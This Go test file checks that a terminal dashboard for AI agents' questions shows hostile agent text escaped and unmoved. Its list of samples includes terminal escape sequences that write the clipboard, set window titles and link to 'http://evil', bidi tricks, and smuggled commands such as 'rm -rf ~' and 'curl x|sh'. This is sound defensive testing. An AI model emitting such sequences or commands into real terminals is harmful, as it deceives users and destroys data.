package e2e

import (
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/rivo/uniseg"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// hostile is what an agent may send to steer the terminal, to hide text or to move what stands beside it. shown is
// how a person must see it; empty: only that nothing else moves.
var hostile = []struct{ name, text, shown string }{
	{"colour", "\x1b[38;5;9mred\x1b[0m", "<U+001B>[38;5;9mred<U+001B>[0m"},
	{"cursor", "\x1b[99;1Hgone\x1b[5;5fgone", "<U+001B>[99;1Hgone<U+001B>[5;5fgone"},
	{"clear and reset", "\x1b[3J\x1bc\x1b[!p", "<U+001B>[3J<U+001B>c<U+001B>[!p"},
	{"clipboard", "\x1b]52;c;aGFjaw==\x07", "<U+001B>]52;c;aGFjaw==<U+0007>"},
	{"window title", "\x1b]2;root\x1b\\", `<U+001B>]2;root<U+001B>\`},
	{"link", "\x1b]8;;http://evil\x1b\\docs\x1b]8;;\x1b\\", `<U+001B>]8;;http://evil<U+001B>\docs`},
	{"device control", "\x1bPtmux;\x1b\x1b]52;c;eA==\x07\x1b\\\x1b_Ga=q\x1b\\", `<U+001B>Ptmux;<U+001B><U+001B>]52`},
	{"C1", "\u009b31mred\u009d52;c;eA==\u009c", "<U+009B>31mred<U+009D>52;c;eA==<U+009C>"},
	{"C0", "a\x00b\x07c\x08d\x0be\x0cf\rg\x0eh\x0fi\x7fj", "a<U+0000>b<U+0007>c<U+0008>d<U+000B>e<U+000C>f<U+000D>g"},
	{"paste end", "\x1b[201~rm -rf ~", "<U+001B>[201~rm -rf ~"},
	{"link tag", "ls [:::; rm -rf ~ && curl x|sh] done", "ls [:::; rm -rf ~ && curl x|sh] done"},
	{"style tags", "[red]a[-] [::b]b[::-] [#ff0000:blue:u]c", "[red]a[-] [::b]b[::-] [#ff0000:blue:u]c"},
	{"region tags", `["x"]a[""] [] [[x] [x[] ]`, `["x"]a[""] [] [[x] [x[] ]`},
	{"bidi", "user\u202e txt.exe\u2066a\u2069\u200f\u061c", "user<U+202E> txt.exe<U+2066>a<U+2069><U+200F><U+061C>"},
	{"zero width", "a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg\u180eh", "a<U+200B>b<U+200C>c<U+200D>d<U+2060>e<U+FEFF>f<U+00AD>"},
	{"blank letters", "a\u3164b\u2800c\u115fd", "a<U+3164>b<U+2800>c<U+115F>d"},
	{"invisible tags", "ok\U000e0072\U000e006d", "ok<U+E0072><U+E006D>"},
	{"line separators", "a\u2028b\u2029c\u0085d", "a<U+2028>b<U+2029>c<U+0085>d"},
	{"marks upon marks", "Z" + strings.Repeat("\u0301\u0489", 20), ""},
	{"newlines", "\n\n\na\r\n\tb\n\n\n\n\n\nc", "a b c"},
	{"CJK", "漢字かな交じり文、한국어 문장、ﾊﾝｶｸ", "漢字かな交じり文、한국어 문장"},
	{"emoji", "👩\u200d🔬 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈 🇩🇪🇯🇵 ❤\ufe0f 1\ufe0f\u20e3 👍🏽", "👩"},
	{"wide and narrow", strings.Repeat("漢a", 200)[:199/4*4], ""},
}

// placed are the rows that must stand where they do, whatever is asked.
var (
	countdown = regexp.MustCompile(` \d+[:mh]\d* ─$`)
	lower     = regexp.MustCompile(`^─ 1 waiting .*─$`)
	wider     = regexp.MustCompile(`^─ 1 waiting ─+┬─ `)
)

// misplaced says which row is not where it belongs.
func misplaced(rows []string, w, h int) string {
	switch {
	case len(rows) != h:
		return fmt.Sprintf("%d rows", len(rows))
	case !strings.HasPrefix(rows[0], "─ ") || !countdown.MatchString(rows[0]) || uniseg.StringWidth(rows[0]) != w:
		return "the question's rule: " + rows[0]
	case w >= 100 && !wider.MatchString(rows[0]):
		return "the divider: " + rows[0]
	case w < 100 && !ruled(rows[h-3], w) && !(ruled(rows[h-2], w) && buttoned(rows)):
		return "the lower rule: " + rows[h-3]
	case rows[h-2] == "" || uniseg.StringWidth(rows[h-2]) > w: // ⏎ and what it does, or why a key did nothing
		return "the Enter line: " + rows[h-2]
	case !choosing(rows) && !typing(rows) || uniseg.StringWidth(rows[h-1]) > w:
		return "the keys: " + rows[h-1]
	}
	return ""
}

// ruled reports whether a row is the lower rule of a screen of w cells.
func ruled(row string, w int) bool { return lower.MatchString(row) && uniseg.StringWidth(row) == w }

// buttons are the beginnings of what is said below the options while no key was refused.
var buttons = []string{"⏎ ", "Not yet", "Nothing marked yet", "Done", "Type your answer"}

// buttoned reports whether what Enter does is said below the options.
func buttoned(rows []string) bool {
	return slices.ContainsFunc(rows, func(row string) bool {
		return strings.Contains(row, " was ignored") || slices.ContainsFunc(buttons, func(begins string) bool {
			return strings.HasPrefix(row, begins)
		})
	})
}

// choosing and typing say where keys go, by the row of keys.
func choosing(rows []string) bool { return strings.Contains(rows[len(rows)-1], "? keys") }
func typing(rows []string) bool   { return strings.Contains(rows[len(rows)-1], "Esc back (keeps text)") }

// moved says which row is not where it belongs on a screen of tmux, whose opinion of widths differs from ours.
func moved(rows []string) string {
	h := len(rows)
	switch {
	case !strings.HasPrefix(rows[0], "─ ") || !countdown.MatchString(rows[0]):
		return "the question's rule: " + rows[0]
	case !lower.MatchString(rows[h-3]) && !(lower.MatchString(rows[h-2]) && buttoned(rows)):
		return "the lower rule: " + rows[h-3]
	case !strings.Contains(rows[h-1], "? keys"):
		return "the keys: " + rows[h-1]
	}
	return ""
}

// trap is a hostile ask: the text stands everywhere an agent's text can.
func trap(name, text string) object {
	text = strings.TrimSpace(text)
	return object{
		"title": clip(name+" "+text, 200), "prompt": name + "\n\n" + text + "\n\n```\n" + text + "\n```\n" + text, "selection_mode": "hybrid",
		"max_selections": 1, "placeholder": clip(text, 1000), "global_annotation": text,
		"options": []object{
			{"id": "a" + clip(text, 100), "label": clip(text, 900), "description": clip(text, 4000), "annotation": text, "recommended": true},
			{"id": "b", "label": "plain"},
		},
	}
}

func clip(s string, most int) string {
	runes := []rune(s)
	return string(runes[:min(len(runes), most)])
}

// snare is where the agent of the hostile asks lives: its name, directory and branch steer the terminal too.
func (r *room) snare() *agent {
	r.Helper()
	dir := filepath.Join(r.work, "ev\x1b[38;5;9mil\u202e\u200b[:::x]")
	require.NoError(r, os.MkdirAll(filepath.Join(dir, ".git"), 0o700))
	require.NoError(r, os.WriteFile(filepath.Join(dir, ".git", "HEAD"), []byte("ref: refs/heads/ma\x1b]52;c;eA==\x07in\u2066\n"), 0o600))
	return r.connectIn(dir, "cla\x1b]2;x\x07ude\u202e[red]")
}

func TestHostileTextIsShownAndMovesNothing(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	narrow, wide := r.console(80, 24, r.command()), r.console(120, 40, r.command())
	p := r.tmux().dashboard(60, 20)
	narrow.see("? keys")
	wide.see("? keys")
	a := r.snare()

	try := func(name, text, shown string) {
		c := a.ask(trap(name, text))
		for d, keys := range map[*console]string{narrow: "zznatGg", wide: "zzaGt"} {
			d.stands(name, "comes", shown)
			for _, key := range strings.Split(keys, "") {
				d.press(key)
				if strings.Contains("nat", key) {
					d.when(key+" types", func(v *wire) bool { return typing(v.rows()) })
					d.stands(name, "while typing after "+key, "")
					d.press("\x1b")
					d.when("Esc ends typing", func(v *wire) bool { return choosing(v.rows()) })
				}
				d.still(glance)
				d.stands(name, "after "+key, "")
			}
		}
		p.when(name+" stands", func(s string) bool {
			return strings.Contains(s, name) && moved(strings.Split(s, "\n")) == ""
		})
		c.stop() // withdraws it
		for _, d := range []*console{narrow, wide} {
			d.leave()
		}
		p.when("withdrawn", func(s string) bool {
			return strings.Contains(s, " withdrawn ") || strings.Contains(s, "nothing is waiting")
		})
		p.press("Escape")
		p.see("nothing is waiting")
	}
	for i, h := range hostile {
		try(fmt.Sprintf("case-%d", i), h.text, h.shown)
	}
	try("long", strings.Repeat("x", 8000), "")
	seed := rand.Uint64()
	t.Logf("mixed from seed %d", seed)
	random := rand.New(rand.NewPCG(seed, 0))
	for i := range 4 {
		var b strings.Builder
		for range 3 + random.IntN(12) {
			text := []rune(hostile[random.IntN(len(hostile))].text)
			b.WriteString(string(text[random.IntN(len(text)):]))
		}
		try(fmt.Sprintf("mixed-%d", i), b.String(), "")
	}
	for _, d := range []*console{narrow, wide} {
		d.quit()
		assert.Zero(t, d.ended())
		d.clean()
	}
}

// stands waits until a case is on screen with every row in its place, and what must be seen is seen.
func (c *console) stands(name, when, shown string) {
	c.Helper()
	problem := ""
	c.when(name+" "+when, func(v *wire) bool {
		rows := v.rows()
		screen := strings.Join(rows, "\n")
		problem = misplaced(rows, v.w, v.h)
		return problem == "" && strings.Contains(screen, name) && strings.Contains(screen, shown)
	})
	c.clean()
}

// leave leaves a question that is over, unless it gave way by itself: nobody has pressed a key for ten seconds.
func (c *console) leave() {
	c.Helper()
	c.when("withdrawn", func(v *wire) bool {
		return strings.Contains(v.rows()[0], " withdrawn ") || strings.Contains(v.rows()[0], "nothing is waiting")
	})
	c.press("\x1b")
	c.see("─ nothing is waiting ─")
}

// clean checks that nothing reached the terminal that was not ours.
func (c *console) clean() {
	c.Helper()
	c.mu.Lock()
	defer c.mu.Unlock()
	require.Empty(c, c.wire.alien)
	require.LessOrEqual(c, c.wire.wiped, 2, "the screen is cleared when the dashboard comes and goes")
}

func TestEmojiStayInTheirRowInTmux(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	p := r.tmux().dashboard(60, 20)
	for _, emoji := range []string{"👍🏽", "👩\u200d🔬", "🇩🇪", "❤\ufe0f", "1\ufe0f\u20e3", "🏳\ufe0f\u200d🌈", "漢", "a\u0301"} {
		ask := database()
		ask.Prompt = strings.Repeat(emoji, 31) // the 30th ends in the last column, or would stand there
		ask.Questions[0].Options[0].Label = strings.Repeat(emoji, 31)
		ask.Questions[0].Options[1].Description = "x" + strings.Repeat(emoji, 31)
		s := r.put(ask)
		screen := p.see("Which database?", "3 ○ DynamoDB", "⏎ Send", "1-3 choose")
		rows := strings.Split(screen, "\n")
		starts := map[string]string{"Which database?": "Which", "Transactions": "     T", "SQLite": " 2 ○ ", "DynamoDB": " 3 ○ ",
			"1 waiting": "─ 1 waiting", "⏎": "⏎ Send ", "? keys": "1-3 choose"}
		for _, row := range rows {
			for words, start := range starts {
				if strings.Contains(row, words) && !strings.HasPrefix(row, start) {
					assert.Failf(t, "spilled", "%s into %q on\n%s", emoji, row, screen)
				}
			}
		}
		require.Zero(t, r.run("cancel", s.ID).code)
		p.see(" cancelled ")
		p.press("Escape")
		p.see("nothing is waiting")
	}
}

func TestLinesOf30000CharactersMoveNothing(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	c := r.console(80, 24, r.command())
	c.see("? keys")
	a := r.connect("claude-code")
	for i, line := range []string{strings.Repeat("x", 30_000), strings.Repeat("漢", 10_000), strings.Repeat("a\u0301", 10_000), strings.Repeat("ab ", 10_000),
		strings.Repeat("👩\u200d🔬", 2_500), strings.Repeat("\x1b[38;5;9m", 3_000)} {
		name := fmt.Sprintf("long-%d", i)
		ask := which()
		ask["title"], ask["prompt"] = name, line
		call := a.ask(ask)
		c.stands(name, "comes", "")
		shown := name
		for _, key := range []string{"\x1b[6~", "\x1b[6~", "z", "\x04", "\x15", "z"} {
			c.press(key)
			c.still(glance)
			switch {
			case key != "z":
			case shown == name: // only the text is on screen
				shown = "z back"
			default:
				shown = name
			}
			c.stands(shown, fmt.Sprintf("%s after %q", name, key), "")
		}
		call.stop()
		c.leave()
	}
}

func TestHostileTextIsHarmlessInCommandsToo(t *testing.T) {
	t.Parallel()
	r := newRoom(t)
	p := r.console(80, 24, r.command())
	p.see("? keys")
	a := r.snare()
	var all []string
	for _, h := range hostile {
		all = append(all, h.text)
	}
	a.ask(trap("everything", strings.Join(all, " ")))
	p.see("everything")
	id := r.only().ID
	words := strings.ReplaceAll(strings.Join(all, " "), "\x00", "")
	for _, args := range [][]string{{"list"}, {"show", id}, {"log"}, {words}, {"attach", words}, {"answer", id, "--select", words},
		{"answer", id, "--select", "b", "--comment", words}, {"attach", id}, {"show", id}, {"log"}} {
		got := r.run(args...)
		assert.NotEmpty(t, got.out+got.err)
		for _, c := range got.out + got.err {
			if name := forbidden(c, len(string(c))); name != "" && c != '\n' && c != '\t' {
				assert.Failf(t, name, "%q wrote %q", args[0], got.out+got.err)
				break
			}
		}
	}
}
